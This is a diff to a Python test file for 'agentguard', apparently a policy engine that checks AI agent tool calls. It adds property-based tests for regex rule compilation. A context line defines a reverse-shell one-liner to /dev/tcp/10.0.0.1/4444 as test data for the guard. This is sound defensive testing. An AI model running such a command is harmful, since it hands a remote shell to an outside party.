@@ -3,16 +3,25 @@
 from __future__ import annotations
 
 import json
+import re
 import time
 from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import assume, given, settings
+from hypothesis import strategies as st
 
 from agentguard.cli import main
 from agentguard.events import ToolCall
 from agentguard.policy import Policy, PolicyError
-from agentguard.policy._regex import MAX_SPLITS, check_regex
+from agentguard.policy._regex import (
+    MAX_SPLITS,
+    RegexProblem,
+    _trim,
+    check_regex,
+    compile_regex,
+)
 from tests.policy.conftest import ctx, make_policy, rule_ids
 
 REVERSE_SHELL = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
@@ -234,3 +243,42 @@ def test_explain_reports_an_event_file_nested_too_deeply(tmp_path: Path, capsys:
     assert err.startswith(f"agentguard policy explain: {events}: ")
     assert "nests too deeply" in err and "Traceback" not in err
     assert err.count("\n") == 1
+
+
+# -- a leading class run: the same matches without re-scanning the run from each of its places ----
+
+_CLASSES = [r"\w", r"\d", r"\s", r"\W", r"[a-c]", r"[^b ]", "."]
+_REST = ["", r"\s+\w+", "x", r"[0-9]+", "b+c", r"\w*@", "(?:ab)+", "$", r"\b", "y|z"]
+
+
+@settings(max_examples=400, deadline=None)
+@given(cls=st.sampled_from(_CLASSES), quantifier=st.sampled_from(["+", "*", "+?", "{2,}", "{1,3}"]),
+       rest=st.sampled_from(_REST), ignore_case=st.booleans(),
+       text=st.text(alphabet="abcxyz 0@\n_B", max_size=40))
+def test_a_pattern_led_by_a_class_run_finds_what_it_found_before(
+        cls: str, quantifier: str, rest: str, ignore_case: bool, text: str) -> None:
+    """A pattern that starts with a repeated character class is searched from the start of each
+    run of that class only, and finds exactly the match (place and text) the plain pattern
+    finds."""
+    pattern = cls + quantifier + rest
+    try:
+        compiled = compile_regex(pattern, ignore_case)
+    except RegexProblem:
+        assume(False)  # refused at load for its own reasons: nothing is searched with it
+    flags = re.IGNORECASE if ignore_case else 0
+    # Loading drops a leading or trailing ".*" (a rule asks whether there is a match, and where
+    # the plain pattern's match is, the loaded one's is too); the anchor changes neither.
+    plain, trimmed = re.compile(pattern, flags), re.compile(_trim(pattern), flags)
+    found = compiled.search(text)
+    assert (found is None) == (plain.search(text) is None)
+    expected = trimmed.search(text)
+    assert (found and found.span()) == (expected and expected.span())
+
+
+def test_a_pattern_led_by_a_class_run_is_checked_in_linear_time() -> None:
+    """Rules with patterns such as ``\\w+\\s+\\w+`` match a long run of letters without the
+    quadratic re-scan (the pattern only starts where a run starts), and still fire."""
+    policy = make_policy(regex_rule(r"\w+\s+\w+"))
+    assert rule_ids(policy.evaluate(call(q="a" * 4000 + " b"))) == ["P-1"]
+    assert compile_regex(r"\w+\s+\w+").pattern.startswith(r"(?<!\w)")
+    assert compile_regex(r"\w+x|y").pattern == r"\w+x|y"  # alternation at the top: left alone
